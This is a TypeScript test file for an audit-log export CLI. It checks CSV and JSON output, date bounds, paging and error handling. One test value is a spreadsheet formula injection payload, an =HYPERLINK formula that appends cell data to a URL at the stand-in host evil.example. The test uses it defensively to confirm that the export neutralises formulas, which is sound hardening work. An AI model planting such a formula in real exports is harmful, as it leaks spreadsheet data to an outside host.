import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { auditExportColumns, cliAuditMessages as m, cliMessages } from '@adboard/shared';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { registerVerified, relaxedLimiter, sqlCount } from '../support/accounts.js';
import { cli } from '../support/cli.js';
import { createTestApp, type TestApp } from '../support/test-app.js';

/** RFC 4180 read back: quoted cells with doubled quotes, records ended by CRLF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
      i += 1;
    } else throw new Error(`unquoted character ${JSON.stringify(char)} at ${i}`);
  }
  if (cell !== '' || record.length > 0) throw new Error('the last record has no CRLF');
  return records;
}

/** A cell as the data was: the export's one leading apostrophe dropped. */
function unmark(cell: string): string {
  return cell.startsWith("'") ? cell.slice(1) : cell;
}

interface StoredEntry {
  id: string;
  created_at: Date;
  actor_id: string | null;
  actor_email: string;
  action: string;
  target_type: string;
  target_id: string;
  reason: string | null;
  before: Record<string, unknown> | null;
  after: Record<string, unknown> | null;
}

/** The days of March 2024, both included. */
const march = ['--from', '2024-03-01', '--to', '2024-03-31'];

const trickyReason = 'spam, "again"\nand again,\r\nthird line';
const formulaReason = '=HYPERLINK("http://evil.example/?d="&A1,"click")';

describe('audit-export: the audit log of a period, for a lawyer', () => {
  let t: TestApp;
  let dir: string;
  let stored: StoredEntry[];

  async function entry(at: string, fields: Partial<StoredEntry> = {}) {
    await t.database.pool.query(
      `INSERT INTO audit_log
         (actor_id, actor_email, action, target_type, target_id, before, after, reason, created_at)
       VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9)`,
      [
        fields.actor_id ?? null,
        fields.actor_email ?? 'cli:ops',
        fields.action ?? 'user.ban',
        fields.target_type ?? 'user',
        fields.target_id ?? '00000000-0000-4000-8000-000000000001',
        fields.before === undefined ? null : JSON.stringify(fields.before),
        fields.after === undefined ? null : JSON.stringify(fields.after),
        fields.reason ?? null,
        at,
      ],
    );
  }

  const auditExport = (...args: string[]) => cli(t, ['audit-export', ...args]);

  async function storedIn(from: string, to: string): Promise<StoredEntry[]> {
    const { rows } = await t.database.pool.query<StoredEntry>(
      `SELECT id::text, created_at, actor_id, actor_email, action, target_type, target_id,
              reason, before, after
       FROM audit_log WHERE created_at >= $1 AND created_at < $2 ORDER BY id`,
      [from, to],
    );
    return rows;
  }

  beforeAll(async () => {
    t = await createTestApp({ limiter: relaxedLimiter() });
    dir = await mkdtemp(path.join(os.tmpdir(), 'audit-export-'));
    const mod = await registerVerified(t.app, 'mod@example.com', 'moderate-carefully-42');
    await entry('2024-02-29T23:59:59.999Z', { reason: 'the day before' });
    await entry('2024-03-01T00:00:00.000Z', { reason: trickyReason, before: { bannedAt: null } });
    await entry('2024-03-15T12:00:00.000Z', {
      actor_id: mod.userId,
      actor_email: 'mod@example.com',
      action: 'order.recheck',
      target_type: 'order',
      target_id: '42',
      reason: formulaReason,
      before: { note: '@SUM(1+1)', status: 'pending' },
      after: { note: '-1', status: 'paid' },
    });
    await entry('2024-03-31T23:59:59.999Z', { action: 'user.unban', reason: '+tab\tinside' });
    await entry('2024-04-01T00:00:00.000Z', { reason: 'the day after' });
    stored = await storedIn('2024-03-01T00:00:00Z', '2024-04-01T00:00:00Z');
    expect(stored).toHaveLength(3);
  });
  afterAll(async () => {
    await t.close();
    await rm(dir, { recursive: true, force: true });
  });

  it('writes RFC 4180 CSV that reads back to the very entries of the days asked, both included', async () => {
    const entries = await sqlCount(t, 'SELECT count(*) AS n FROM audit_log');
    const exported = await auditExport(...march);
    expect(exported).toMatchObject({ code: 0, err: [m.exported(3)] });

    const [header, ...rows] = parseCsv(exported.stdout);
    expect(header).toEqual([...auditExportColumns]);
    expect(
      rows.map((cells) => {
        const [id, createdAt, actorId, actorEmail, action, targetType, targetId, ...rest] =
          cells.map(unmark);
        const [reason, before, after] = rest;
        return {
          id,
          created_at: new Date(createdAt ?? ''),
          actor_id: actorId || null,
          actor_email: actorEmail,
          action,
          target_type: targetType,
          target_id: targetId,
          reason: reason || null,
          before: before ? JSON.parse(before) : null,
          after: after ? JSON.parse(after) : null,
        };
      }),
    ).toEqual(stored);
    // Times in ISO 8601, UTC.
    expect(rows.map((cells) => cells[1])).toEqual([
      '2024-03-01T00:00:00.000Z',
      '2024-03-15T12:00:00.000Z',
      '2024-03-31T23:59:59.999Z',
    ]);
    // No cell starts a formula; reading needs no entry of its own.
    for (const cells of rows) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(exported.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"`);
    expect(await sqlCount(t, 'SELECT count(*) AS n FROM audit_log')).toBe(entries);
  });

  it('takes instants: --from included, --to excluded', async () => {
    const exported = await auditExport(
      '--from',
      '2024-03-15T12:00:00Z',
      '--to',
      '2024-03-31T23:59:59.999Z',
    );
    expect(exported.code).toBe(0);
    const [, ...rows] = parseCsv(exported.stdout);
    expect(rows.map((cells) => cells[0])).toEqual([stored[1]?.id]);
  });

  it('writes a JSON array of the same entries with --format json', async () => {
    const exported = await auditExport(...march, '--format', 'json');
    expect(exported.code).toBe(0);
    const parsed = JSON.parse(exported.stdout) as Record<string, unknown>[];
    expect(parsed.map((e) => Object.keys(e))).toEqual(stored.map(() => [...auditExportColumns]));
    expect(parsed).toEqual(
      stored.map((row) => ({
        id: row.id,
        createdAt: row.created_at.toISOString(),
        actorId: row.actor_id,
        actorEmail: row.actor_email,
        action: row.action,
        targetType: row.target_type,
        targetId: row.target_id,
        reason: row.reason,
        before: row.before,
        after: row.after,
      })),
    );
    const empty = await auditExport(
      '--from',
      '2020-01-01',
      '--to',
      '2020-01-31',
      '--format',
      'json',
    );
    expect(JSON.parse(empty.stdout)).toEqual([]);
    expect(empty.err).toEqual([m.exported(0)]);
  });

  it('writes to a new file with --out, and never overwrites one', async () => {
    const file = path.join(dir, 'march.csv');
    const exported = await auditExport(...march, '--out', file);
    expect(exported).toMatchObject({
      code: 0,
      out: [m.exportedTo(3, file)],
      stdout: `${m.exportedTo(3, file)}\n`,
    });
    expect(parseCsv(await readFile(file, 'utf8'))).toHaveLength(4);

    const kept = path.join(dir, 'kept.csv');
    await writeFile(kept, 'the lawyer already has this');
    const refused = await auditExport(...march, '--out', kept);
    expect(refused).toMatchObject({
      code: 1,
      out: [],
      err: [cliMessages.refused(m.outExists(kept))],
    });
    expect(await readFile(kept, 'utf8')).toBe('the lawyer already has this');
  });

  it('pages through a long period: every entry once, in order', async () => {
    await t.database.pool.query(
      `INSERT INTO audit_log (actor_email, action, target_type, target_id, reason, created_at)
       SELECT 'cli:ops', 'user.ban', 'user', 'u' || n, 'bulk ' || n,
              '2023-06-01T00:00:00Z'::timestamptz + n * interval '1 second'
       FROM generate_series(1, 1234) AS n`,
    );
    const exported = await auditExport('--from', '2023-06-01', '--to', '2023-06-01');
    expect(exported.err).toEqual([m.exported(1234)]);
    const [, ...rows] = parseCsv(exported.stdout);
    const ids = rows.map((cells) => Number(cells[0]));
    expect(ids).toEqual([...ids].sort((a, b) => a - b));
    expect(new Set(rows.map((cells) => cells[6]))).toHaveProperty('size', 1234);
  });

  it('answers bad usage with exit 2 and writes nothing', async () => {
    const backwards = await auditExport('--from', '2024-03-02', '--to', '2024-03-01');
    expect(backwards).toMatchObject({
      code: 2,
      stdout: '',
      err: [
        cliMessages.optionProblem('to', m.periodBackwards),
        cliMessages.commandHelpHint('audit-export'),
      ],
    });
    const badDay = await auditExport('--from', '2024-02-30', '--to', '2024-03-01');
    expect(badDay.err[0]).toBe(cliMessages.optionProblem('from', m.boundInvalid));
    expect(badDay.code).toBe(2);
    const noTo = await auditExport('--from', '2024-03-01');
    expect(noTo.code).toBe(2);
    const xml = await auditExport('--from', '2024-03-01', '--to', '2024-03-02', '--format', 'xml');
    expect(xml.err[0]).toBe(cliMessages.optionProblem('format', m.formatUnknown));
    expect(xml.code).toBe(2);
  });
});
